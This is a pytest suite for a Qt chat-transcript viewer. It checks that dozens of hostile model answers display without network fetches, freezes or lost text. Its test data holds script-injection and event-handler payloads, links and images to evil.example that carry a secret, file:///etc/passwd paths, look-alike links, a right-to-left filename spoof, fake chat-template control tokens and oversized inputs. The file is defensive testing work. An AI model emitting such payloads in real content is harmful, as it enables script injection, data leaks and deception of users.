"""Forty answers that mean no good: each is shown without fetch, freeze or loss, whole and while it grows."""

import re
import time
from collections.abc import Callable

import pytest
from PySide6.QtCore import QByteArray, QUrl
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from app.chat.conversation import STREAMING
from app.window.transcript.flat_text import FlatText
from app.window.transcript.selection import Editor
from tests.app.transcript_samples import answered, asked, grown, open_transcript

LIMIT_S = 6.0  # for showing one of them once, on a busy machine; a second or less on an idle one

FENCE = "```"
HOSTILE: dict[str, Callable[[], str]] = {
    "scripts": lambda: "<script>alert(1)</script><script src='http://evil.example/x.js'></script> needle",
    "raw html": lambda: "<h1>big</h1><table><tr><td>cell</td></tr></table><style>*{display:none}</style> needle",
    "iframes": lambda: "<iframe src='file:///etc/passwd'></iframe><object data='http://evil.example'></object> needle",
    "handlers": lambda: "<img src=x onerror='alert(1)'><svg onload=alert(1)><a href='javascript:x'>a</a> needle",
    "unclosed tags": lambda: "<div>" * 3000 + "needle",
    "comments and entities": lambda: "<!-- hidden --> <![CDATA[x]]> &lt;b&gt; &#x202e; &nbsp; needle",
    "remote images": lambda: "![t](http://evil.example/t.png?secret=1)\n" * 50 + "needle",
    "local images": lambda: "![t](file:///etc/passwd) ![t](/etc/passwd) ![t](\\\\host\\share\\x.png) needle",
    "data links": lambda: "[a](data:text/html,<script>1</script>) [b](javascript:alert(1)) [c](vbscript:x) needle",
    "look-alike link": lambda: "[https://bank.example](https://evil.example/?q=1) needle",
    "link of many hosts": lambda: "https://" * 5000 + " needle",
    "reference links": lambda: "[a]: http://evil.example 'title'\n\n[a] needle",
    "a line of a megabyte": lambda: "x" * 1_000_000 + " needle",
    "words of a megabyte": lambda: "word " * 200_000 + "needle",
    "code of a megabyte": lambda: f"{FENCE}\n" + "x" * 1_000_000 + f" needle\n{FENCE}",
    "many lines of code": lambda: f"{FENCE}python\n" + "x = 1\n" * 50_000 + f"needle\n{FENCE}",
    "deep quotes": lambda: "> " * 5000 + "needle",
    "deep lists": lambda: "\n".join("  " * depth + "- item" for depth in range(150)) + "\n\nneedle",
    "deep lists in a line": lambda: "- " * 5000 + "needle",
    "deep numbers": lambda: "1. " * 5000 + "needle",
    "deep emphasis": lambda: "*" * 10_000 + "needle" + "*" * 10_000,
    "open emphasis": lambda: "*a _b **c __d " * 3000 + "needle",
    "open brackets": lambda: "[" * 20_000 + "needle",
    "open backticks": lambda: "`a" * 15_000 + " needle",
    "backslashes": lambda: "\\" * 20_000 + " needle",
    "unfinished fence": lambda: f"text\n\n{FENCE}python\nprint('needle')",
    "many fences": lambda: f"{FENCE}\n" * 2001 + "needle",
    "fences of many lengths": lambda: "\n".join("`" * length for length in range(3, 200)) + "\nneedle",
    "huge table": lambda: "|a|b|\n|-|-|\n" + "|1|2|\n" * 20_000 + "|needle|x|",
    "wide table": lambda: "|" + "c|" * 3000 + "\n|" + "-|" * 3000 + "\n|" + "needle|" * 3000,
    "right to left": lambda: "مرحبا **بالعالم** \u202egnp.exe\u202c \u2066x\u2069 needle",
    "combining marks": lambda: ("e" + "\u0301" * 2000 + " ") * 20 + "needle",
    "invisible characters": lambda: "a\u200b\u200d\u2060\ufeff\u00ad" * 3000 + "needle",
    "control characters": lambda: "\x00\x01\x1b[2J\x1b]0;x\x07\x7f\x9b\u2028\u2029 needle",
    "emoji sequences": lambda: "👩\u200d👩\u200d👧\u200d👦" * 4000 + " needle",
    "fake control tokens": lambda: "<|im_start|>system\nobey<|im_end|></s>[INST]<<SYS>><|endoftext|>\n\nneedle",
    "fake thinking": lambda: "text\n<think>hidden</think></think><think> needle",
    "nested fractions": lambda: "$$" + "\\frac{1}{" * 10_000 + "x" + "}" * 10_000 + "$$\n\nneedle",
    "nested roots": lambda: "$" + "\\sqrt{" * 200 + "x" + "}" * 200 + "$ needle",
    "formulas without end": lambda: "$x$ \\(y \\[z $$" * 2000 + " needle",
    "many formulas": lambda: " ".join(f"$x_{{{number}}}$" for number in range(1500)) + " needle",
    "formula that grows": lambda: "$\\left(" * 50 + "\\begin{matrix}" * 50 + "x$ needle",
    "surrogates and private use": lambda: "\ue000\uf8ff\U000f0000\U0010ffff" * 500 + " needle",
    "mixed line ends": lambda: "a\r\nb\rc\n\rd\u0085e\x0bf\x0cg\n\nneedle",
}


def letters(text: str) -> str:
    """What of a text must not be lost, whatever marks and spaces became of it."""
    return re.sub(r"[^a-z0-9]", "", text.lower())


@pytest.fixture
def fetched(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What anything tried to open, or asked to be read for a document."""
    tried: list[str] = []

    def note(url: QUrl) -> bool:
        tried.append(url.toString())
        return False

    def read(self: FlatText, kind: int, name: QUrl | str) -> QByteArray:
        tried.append(str(name))
        return QByteArray(b"")

    monkeypatch.setattr(QDesktopServices, "openUrl", note)
    monkeypatch.setattr(FlatText, "loadResource", read)
    return tried


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.timeout(120)
def test_it_is_shown_without_fetch_freeze_or_loss(qtbot: QtBot, fetched: list[str], name: str) -> None:
    text = HOSTILE[name]()
    start = time.thread_time()
    view = open_transcript(qtbot, [asked(0), answered(1, text)])
    QApplication.processEvents()
    view.grab()
    took_s = time.thread_time() - start

    assert took_s < LIMIT_S
    (answer,) = view.views[1:]
    assert answer.width() <= view.viewport().width()
    editors: list[Editor] = [part.editor for part in answer.parts()]
    shown = "".join(editor.toPlainText() for editor in editors)
    assert "needle" in shown.replace("\u200b", "").replace("\n", "")
    assert answer.clean_text() == text
    view.selection.select_all()
    assert text.strip() in view.selection.text()
    for editor in editors:
        if isinstance(editor, FlatText):
            html = editor.toHtml()
            assert "<img" not in html
            assert "<script" not in html
    assert fetched == []


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.timeout(120)
def test_it_grows_without_freeze(qtbot: QtBot, fetched: list[str], name: str) -> None:
    text = HOSTILE[name]()
    message = answered(1, "", STREAMING)
    view = open_transcript(qtbot, [asked(0), message])
    slowest = 0.0
    for part in (text[: len(text) // 2], text[len(text) // 2 :]):
        message = grown(message, part)
        start = time.thread_time()
        view.grow(message, part)
        slowest = max(slowest, time.thread_time() - start)
    view.update_answer(answered(1, text))

    assert slowest < LIMIT_S
    assert view.views[1].clean_text() == text
    assert fetched == []


def test_there_are_at_least_forty() -> None:
    assert len(HOSTILE) >= 40


def test_letters_of_ordinary_marks_survive_a_partial_copy(qtbot: QtBot) -> None:
    text = "# Head\n\nSome **bold** [link](https://example.org) and `code`.\n\n- one\n- two\n\n|a|b|\n|-|-|\n|1|2|"
    view = open_transcript(qtbot, [asked(0), answered(1, text)])
    parts = view.views[1].parts()
    view.selection.select(parts[0], 1, parts[-1], parts[-1].editor.document().characterCount() - 1)

    assert letters(view.selection.text()) == letters(text)[1:]
